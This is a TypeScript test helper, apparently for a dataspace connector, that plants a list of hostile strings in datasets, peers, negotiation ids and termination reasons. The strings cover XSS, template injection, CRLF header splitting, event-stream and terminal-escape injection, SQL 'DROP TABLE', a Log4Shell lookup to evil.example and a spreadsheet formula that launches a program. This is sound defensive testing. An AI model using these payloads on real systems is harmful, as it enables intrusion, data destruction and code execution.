// Texts that are commands to somebody: to a browser, a header, an event stream, a terminal, a log, a database, a spreadsheet.

import { expect } from 'vitest'
import { contractRequest, messageOf, newPid } from '../fixtures/messages.ts'
import type { Ground } from '../fixtures/stranger.ts'

// prettier-ignore
const HOSTILE: Readonly<Record<string, string>> = {
  'a script':                         '<script>alert(1)</script>',
  'an attribute':                     '"><img src=x onerror=alert(1)>',
  'a script for a template':          '{{constructor.constructor("alert(1)")()}}${alert(1)}',
  'the end of JSON in a page':        '</script><script>alert(1)</script><!--',
  'a header':                         'a\r\nX-Injected: yes',
  'a header behind a line feed':      'a\nX-Injected: yes',
  'an answer':                        'a\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: yes\r\n\r\n',
  'a header for those who decode':    'a%0d%0aX-Injected:%20yes',
  'a header in wide characters':      'a\u560d\u560aX-Injected: yes',
  'an event':                         'a\n\nid: 1\nevent: admin.token\ndata: {}\n\n',
  'an event behind a carriage return': 'a\r\rid: 1\revent: admin.token\rdata: {}\r\r',
  'separators of lines':              'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'commands of a terminal':           '\u001b[2J\u001b]0;owned\u0007\u001b[31mred',
  'commands in one byte':             '\u009b2J\u009d0;owned\u009c',
  'a turned direction':               'agreed \u202edenied\u2066',
  'a backspace':                      'denied\b\b\b\b\b\bagreed',
  'SQL':                              "'; DROP TABLE peer; --",
  'a look-up':                        '${jndi:ldap://evil.example/a}',
  'a formula':                        '=cmd|\' /C calc\'!A0',
}
export const TEXTS = Object.entries(HOSTILE)

/**
 * Puts each of them wherever a text can be left: dataset, peer, pid, message, the reason of an end. Gives the pids of the
 * negotiations, which the peer has terminated with them.
 */
export async function leaveTexts(ground: Ground): Promise<readonly string[]> {
  const { connector, peer, send } = ground
  const pids: string[] = []
  for (const [index, [, text]] of TEXTS.entries()) {
    const id = `urn:hostile:${String(index)}:${text}`
    await connector.ask('/datasets', {
      '@id': id,
      title: text,
      description: { en: text },
      [`x-${text}`]: text,
      source: null,
    })
    await connector.ask('/peers', {
      did: `did:web:hostile-${String(index)}.example`,
      name: text,
      claims: { note: text, [text]: 'x' },
    })
    const opened = await send(
      '/negotiations/request',
      contractRequest(peer.base, 'manual', 'urn:dataset:manual', {
        '@id': `${text}${newPid()}`,
        consumerPid: `${text}${newPid()}`,
      }),
    )
    expect(opened.status, opened.text).toBe(201)
    const { providerPid, consumerPid } = opened.json
    const end = messageOf('ContractNegotiationTerminationMessage', {
      providerPid,
      consumerPid,
      code: text,
      reason: [text, { '@value': text }],
    })
    expect((await send(`/negotiations/${String(providerPid)}/termination`, end)).status).toBe(200)
    pids.push(String(providerPid))
  }
  return pids
}
